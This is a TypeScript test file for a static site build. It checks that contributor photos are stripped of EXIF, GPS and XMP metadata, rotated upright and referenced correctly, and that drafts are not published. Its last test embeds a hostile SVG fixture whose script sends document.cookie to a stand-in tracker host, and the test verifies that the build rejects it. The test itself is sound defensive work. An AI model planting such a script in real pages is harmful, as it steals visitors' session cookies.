import { execFile } from "node:child_process";
import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import { promisify } from "node:util";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import design from "../../_data/design.ts";
import { markSvg } from "../../src/lib/graphics/mark.ts";
import { buildSite, copyProject, temporaryDir } from "../helpers/project.ts";
import { readPage } from "../helpers/site.ts";

// What a pull request's pictures become on the site: only what the build made of them, without
// who took them or where, and nothing at all of a draft's.

const env = { SOURCE_DATE_EPOCH: "1796083200" };
const markers = { artist: "EXIF-ARTIST-MARKER", gps: "GPS-DATUM-MARKER", xmp: "XMP-OWNER-MARKER" };

const article = (title: string, src: string, more = "", body = "") => `---
title: "${title}"
summary: "A summary of the article."
date: 2026-01-10
people:
  - name: Ada Lovelace
tags: [community]
image:
  src: ${src}
  alt: "A blue picture."
${more}---
A body paragraph.
${body}
`;

/** A phone's photo: taken sideways (EXIF orientation 6), with its owner, where it was taken and XMP. */
const phonePhoto = () =>
  sharp({ create: { width: 1600, height: 900, channels: 3, background: "#3366aa" } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Artist: markers.artist, Copyright: markers.artist },
      IFD3: { GPSMapDatum: markers.gps, GPSLatitudeRef: "N", GPSLatitude: "51/1 30/1 0/1" },
    })
    .withXmp(
      `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${markers.xmp}</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>`,
    )
    .toBuffer();

/** Every file of a folder, as paths relative to it. */
const filesIn = (dir: string): string[] =>
  readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory()
      ? filesIn(join(dir, entry.name)).map((file) => `${entry.name}/${file}`)
      : [relative(dir, join(dir, entry.name))],
  );
const sitePath = (url: string) => new URL(url).pathname;

describe("a contributor's photo and a draft's picture, in a real build", () => {
  let siteDir: string;
  let photo: Buffer;

  beforeAll(async () => {
    photo = await phonePhoto();
    const projectDir = await copyProject({
      "static/images/articles/phone-photo.jpg": photo,
      "articles/with-a-photo.md": article(
        "With a photo",
        "/images/articles/phone-photo.jpg",
        "",
        "\n![The same photo, in the text](/images/articles/phone-photo.jpg)\n",
      ),
      "static/images/articles/draft-only.png": await sharp({
        create: { width: 900, height: 600, channels: 3, background: "#aa3366" },
      })
        .png()
        .toBuffer(),
      "articles/not-yet.md": article("Not yet", "/images/articles/draft-only.png", "draft: true\n"),
    });
    expect(await sharp(photo).metadata()).toMatchObject({ orientation: 6, exif: expect.any(Buffer) });
    siteDir = await temporaryDir("imd-pictures-site-");
    await buildSite({ projectDir, outputDir: siteDir, env });
  });

  it("publishes no contributor's file as it is: nothing under /images/, and the favicon is the mark the build drew", () => {
    expect(existsSync(join(siteDir, "images"))).toBe(false);
    expect(readFileSync(join(siteDir, "favicon.svg"), "utf8")).toBe(markSvg(design.palette.mark));
    const photoBytes = photo.toString("base64");
    for (const file of filesIn(siteDir)) {
      expect(readFileSync(join(siteDir, file)).toString("base64") === photoBytes, file).toBe(false);
    }
  });

  it("leaves no file holding the photo's EXIF, GPS or XMP data", async () => {
    const files = filesIn(siteDir);
    expect(files.length).toBeGreaterThan(50);
    for (const file of files) {
      const bytes = readFileSync(join(siteDir, file));
      for (const marker of [...Object.values(markers), "Exif\0\0", "adobe:ns:meta"]) {
        expect(bytes.includes(marker), `${file} holds ${JSON.stringify(marker)}`).toBe(false);
      }
    }
    const renditions = files.filter((file) => file.startsWith("img/"));
    // 3 widths × AVIF, WebP and JPEG, and the thumbnail that search shows of the article's picture.
    expect(renditions.filter((file) => file.startsWith("img/phone-photo-"))).toHaveLength(10);
    for (const file of renditions) {
      const metadata = await sharp(join(siteDir, file)).metadata();
      expect([metadata.exif, metadata.xmp, metadata.iptc, metadata.orientation], file).toEqual([
        undefined,
        undefined,
        undefined,
        undefined,
      ]);
    }
  });

  it("turns the photo upright, as the phone showed it", async () => {
    const img = readPage(siteDir, "/articles/with-a-photo/").querySelector("main picture img");
    expect([img?.getAttribute("width"), img?.getAttribute("height")]).toEqual(["900", "1600"]);
    const metadata = await sharp(join(siteDir, img?.getAttribute("src") ?? "")).metadata();
    expect(metadata.height).toBeGreaterThan(metadata.width);
  });

  it("names in JSON-LD and the JSON Feed a picture the build made, which is there", async () => {
    const jsonLd = (url: string) =>
      readPage(siteDir, url)
        .querySelectorAll('script[type="application/ld+json"]')
        .map((script) => JSON.parse(script.textContent) as { "@type": string; image?: string });
    const images = [
      ...jsonLd("/").map((block) => block.image),
      ...jsonLd("/about/").map((block) => block.image),
      ...jsonLd("/articles/with-a-photo/").map((block) => block.image),
    ].filter((image) => image !== undefined);
    const feed = JSON.parse(readFileSync(join(siteDir, "feed.json"), "utf8")) as {
      items: { url: string; image: string; content_html: string }[];
    };
    images.push(...feed.items.map((item) => item.image));
    expect(images.length).toBe(3 + feed.items.length);
    for (const image of images) {
      expect(sitePath(image), image).toMatch(/^\/img\/[a-z0-9-]+-[0-9a-f]{10}-\d+\.(jpg|png)$/);
      const metadata = await sharp(join(siteDir, sitePath(image))).metadata();
      expect(metadata.width, image).toBeGreaterThan(0);
    }
    const photoItem = feed.items.find((item) => item.url.endsWith("/articles/with-a-photo/"));
    expect(sitePath(photoItem?.image ?? "")).toMatch(/^\/img\/phone-photo-[0-9a-f]{10}-900\.jpg$/);
    // The article's own text, as feed readers get it, shows the picture the build made too.
    expect(photoItem?.content_html).toMatch(/<img src="\/img\/phone-photo-[0-9a-f]{10}-\d+\.jpg"/);
    expect(feed.items.map((item) => item.content_html).join("")).not.toContain("/images/");
  });

  it("publishes nothing of a draft, its picture included", () => {
    expect(existsSync(join(siteDir, "articles/not-yet"))).toBe(false);
    for (const file of filesIn(siteDir)) {
      expect(file).not.toContain("draft-only");
      if (statSync(join(siteDir, file)).size < 5_000_000) {
        expect(readFileSync(join(siteDir, file), "utf8").includes("draft-only"), file).toBe(false);
      }
    }
  });
});

describe("a contributor's SVG that is more than a drawing", () => {
  const hostile = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
<script>fetch("https://tracker.example/?" + document.cookie)</script>
<rect width="10" height="10" fill="#3366aa"/>
</svg>
`;
  const problem =
    "static/images/articles/hostile.svg: line 2: expected a drawing (shapes, paths, gradients), got a <script> element";
  /** The problem lines of a run's output, as a contributor reads them (Eleventy's "(via …)" aside). */
  const problemLines = (output: string) =>
    output
      .split("\n")
      .map((line) => line.replace(/^\[11ty\] /, "").replace(/ \(via \w+\)$/, ""))
      .filter((line) => line.startsWith("static/images/"));
  const failure = (error: unknown) => error as { code: number; stdout: string; stderr: string };

  it("is refused by npm run check:content and by the build, with the same message, and nothing is published", async () => {
    const projectDir = await copyProject({
      "static/images/articles/hostile.svg": hostile,
      "articles/hostile.md": article("Hostile", "/images/articles/hostile.svg"),
    });
    const checked = await promisify(execFile)(process.execPath, ["src/cli/check-content.ts"], {
      cwd: projectDir,
      env: { ...process.env, ...env },
    }).then(() => undefined, failure);
    expect(checked?.code).toBe(1);
    expect(problemLines(checked?.stderr ?? "")).toEqual([problem]);

    const outputDir = join(await temporaryDir("imd-hostile-svg-"), "_site");
    const built = await buildSite({ projectDir, outputDir, env }).then(() => undefined, failure);
    expect(built?.code).not.toBe(0);
    expect(problemLines(`${built?.stdout}\n${built?.stderr}`)).toEqual([problem]);
    expect(existsSync(join(outputDir, "index.html"))).toBe(false);
  });
});
